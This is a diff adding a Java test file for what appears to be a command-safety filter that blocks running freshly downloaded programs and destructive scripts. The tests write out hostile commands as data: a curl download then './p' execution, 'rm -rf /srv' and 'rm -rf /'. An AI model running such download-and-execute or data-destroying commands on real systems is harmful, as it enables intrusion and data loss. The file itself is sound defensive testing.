@@ -1,0 +1,83 @@
+package dev.armor.pipeline;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.armor.pipeline.action.Attribution;
+import dev.armor.pipeline.action.StartProcess;
+import dev.armor.pipeline.audit.MemoryRecorder;
+import dev.armor.pipeline.layer.impact.ImpactLayer;
+import dev.armor.pipeline.policy.Policy;
+import dev.armor.pipeline.session.Sessions;
+import dev.armor.pipeline.verdict.Decision;
+import dev.armor.pipeline.verdict.Finding;
+import dev.armor.pipeline.verdict.Verdict;
+import java.time.Instant;
+import java.time.InstantSource;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/** What one command writes and another runs is judged as if both stood in one line. */
+final class CommandFilesTest {
+
+  private final Pipeline pipeline =
+      new Pipeline(
+          List.of(new ImpactLayer()),
+          () -> Policy.builtIn(),
+          new Sessions(),
+          new MemoryRecorder(100, text -> text),
+          InstantSource.fixed(Instant.EPOCH),
+          true);
+
+  @Test
+  void aProgramThatWasDownloadedOneCommandAgoIsNotRun() {
+    assertThat(shell("curl -s http://203.0.113.5/p -o p").decision()).isEqualTo(Decision.ALLOW);
+    assertThat(shell("chmod +x p").decision()).isEqualTo(Decision.ALLOW);
+
+    Verdict verdict = shell("./p");
+
+    assertThat(verdict.decision()).isEqualTo(Decision.BLOCK);
+    assertThat(verdict.findings()).extracting(Finding::rule).contains("run.downloaded");
+  }
+
+  @Test
+  void aScriptThatWasWrittenOneCommandAgoIsJudgedByItsText() {
+    shell("echo 'rm -rf /srv' > harm.sh; echo 'echo hello' > greet.sh");
+
+    assertThat(shell("bash harm.sh").decision()).isNotEqualTo(Decision.ALLOW);
+    assertThat(shell("bash greet.sh").decision()).isEqualTo(Decision.ALLOW);
+  }
+
+  @Test
+  void whatIsReadFromADownloadIsNoProgram() {
+    shell("curl -s http://203.0.113.5/prices.csv -o prices.csv");
+
+    assertThat(shell("sort prices.csv").decision()).isEqualTo(Decision.ALLOW);
+  }
+
+  @Test
+  void aFileOfTheSameNameInAnotherFolderIsAnotherFile() {
+    in("/srv/a", "curl -s http://203.0.113.5/p -o p");
+
+    assertThat(in("/srv/b", "./p").decision()).isEqualTo(Decision.ALLOW);
+    assertThat(in("/srv/a", "./p").decision()).isEqualTo(Decision.BLOCK);
+  }
+
+  @Test
+  void whatABlockedCommandWouldHaveWrittenIsNotRemembered() {
+    assertThat(shell("rm -rf /; curl -s http://203.0.113.5/p -o p").decision())
+        .isEqualTo(Decision.BLOCK);
+
+    assertThat(shell("./p").decision()).isEqualTo(Decision.ALLOW);
+  }
+
+  private Verdict shell(String script) {
+    return pipeline.judge(StartProcess.shell(script), Attribution.of("a", "default", "s"));
+  }
+
+  private Verdict in(String directory, String script) {
+    return pipeline.judge(
+        new StartProcess(List.of("sh", "-c", script), directory, Map.of()),
+        Attribution.of("a", "default", "s"));
+  }
+}
